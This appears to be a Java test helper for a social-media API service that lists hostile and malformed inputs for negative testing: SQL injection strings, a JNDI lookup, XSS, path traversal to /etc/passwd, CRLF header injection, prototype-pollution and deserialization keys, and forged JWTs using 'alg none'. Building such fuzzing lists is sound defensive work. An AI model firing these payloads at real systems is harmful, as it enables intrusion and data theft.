package social.coral;

import java.util.List;
import java.util.Locale;

/** What nobody means well with, in the form that each part of a request takes. */
final class HostileInput {

    private static final String DEEP = "[".repeat(5_000) + "]".repeat(5_000);

    private HostileInput() {}

    /** In the place of one value in a JSON body. */
    static List<String> jsonValues() {
        return List.of(
                "\"\\u0000\"", "\"a\\u0000b\"", "\"\\ud800\"", "\"\\udc00\\ud800\"", "\"" + "x".repeat(900_000) + "\"", "\"" + "😀".repeat(20_000) + "\"",
                "\"" + "x".repeat(1_200_000) + "\"", "\"\"", "\" \"", "\"\\t\\r\\n\"", "null", "true", "[]", "{}", "[null]", "[[]]", "[\"\\u0000\"]", "{\"a\":{}}", DEEP,
                "-1", "0", "-0", "2147483648", "-9223372036854775809", "1e400", "1e-400", "1.5", "9".repeat(600), "NaN", "Infinity",
                "\"2147483648\"", "\"' or 1=1 --\"", "\"'; drop table tweets; --\"", "\"%27\"", "\":tenant\"", "\"?\"", "\"${jndi:ldap://x/a}\"",
                "\"#{1+1}\"", "\"<script>alert(1)</script>\"", "\"\\u202e\\u2066\"", "\"../../etc/passwd\"", "\"%00\"", "\"=1+1\"",
                "\"0000-00-00T00:00:00Z\"", "\"+999999999-12-31T23:59:59Z\"", "\"-999999999-01-01T00:00:00Z\"", "\"2026-02-30T25:61:00Z\"",
                "\"294277-01-01T00:00:00Z\"", "\"P999999999999D\"", "\"-PT1S\"", "\"PT0S\"", "\"24:00\"", "\"Mars/Phobos\"", "\"a\\u0301\\u0301\\u0301\"");
    }

    /** In the place of a whole JSON body. */
    static List<String> bodies() {
        return List.of("", " ", "null", "[]", "[{}]", "\"text\"", "1", "{", "}", "{\"", "{}{}", "{\"\":1}", "{\"\\u0000\":1}", "{\"__proto__\":{}}", "\u0000", "\uFEFF{}",
                DEEP, "{\"a\":" + DEEP + "}", "{\"a\":\"" + "x".repeat(1_200_000) + "\"}", "<a/>", "a=b", "{'a':1}", "{\"a\":1,}", "/**/{}", "{\"@class\":\"java.lang.Object\"}");
    }

    /** In the place of one value in a query, percent-encoded. */
    static List<String> queryValues() {
        return List.of(
                "", "%00", "a%00b", "%ED%A0%80", "%FF", "%C0%AF", "x".repeat(6_000), "-1", "0", "101", "1000001", "1e9", "99999999999999999999", "2147483648", "1.5", "NaN",
                "0x10", "%2B1", "%D9%A1", "%27%20or%201=1--", "%25", "_", "%5C", "%25%5C", "null", "undefined", "%5B%5D", "%7B%7D", "%F0%9F%98%80", "%0D%0AX-Injected:%201",
                "..%2F..", "%3Cscript%3E", "%E2%80%AE", "true", "2026-02-30", "%2B999999999-12-31", "-999999999-01-01", "0000-01-01", "9999-12-31", "294277-01-01");
    }

    /** In the place of a parameter of the path, percent-encoded. */
    static List<String> pathValues(String anothers) {
        return List.of(
                "%00", "%2e%2e", "..", ".", "%2e%2e%2fuser", "..%2f..%2fuser", "..%5c..", "%5C", ";x=1", anothers + ";x=1", anothers + "%00", anothers + "%20", anothers + ".json",
                anothers + "/", anothers + "%2f", anothers + "//", anothers + "/..", anothers.toUpperCase(Locale.ROOT), "%7B" + anothers + "%7D", anothers.replace("-", ""),
                "urn:uuid:" + anothers, anothers + "," + anothers, "*", "%25", "_", "%20", "null", "undefined", "0", "-1", "1-1-1-1-1", "a".repeat(5_000), "%F0%9F%98%80", "%ED%A0%80", "%C0%AF",
                "%27%20or%201=1--", "%0D%0AX-Injected:%201", "new", "import", "cache");
    }

    static List<String> contentTypes() {
        return List.of("text/plain", "text/html", "application/xml", "application/x-www-form-urlencoded", "multipart/form-data", "multipart/form-data; boundary=x",
                "application/octet-stream", "application/yaml", "application/x-java-serialized-object", "application/cbor", "image/png", "application/json;charset=utf-16",
                "application/json;charset=nonsense", "nonsense", "*/*", "application/*", "/", ";");
    }

    static List<String> methods() {
        return List.of("GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "PROPFIND", "QUERY", "get", "FOO");
    }

    /** What is no access token of anybody. */
    static List<String> tokens(String good) {
        String[] parts = good.split("\\.");
        return List.of("", "x", "null", parts[0] + "." + parts[1] + ".", parts[0] + "." + parts[1], good.substring(0, good.length() - 4) + "AAAA", parts[0] + "." + parts[0] + "." + parts[2],
                "eyJhbGciOiJub25lIn0." + parts[1] + ".", good + "x", good + " " + good, "a".repeat(6_000));
    }

    /** Fields that a tenant may never set, on top of those that the answers carry. */
    static List<String> readOnlyFields() {
        return List.of("user_id", "tenant", "tenant_id", "owner", "id", "created_at", "updated_at", "subscription_tier", "api_usage_limit", "api_usage_current",
                "cost_micro_usd", "limit", "tier", "role", "is_admin", "sub", "userId", "createdAt", "constructor", "class");
    }
}
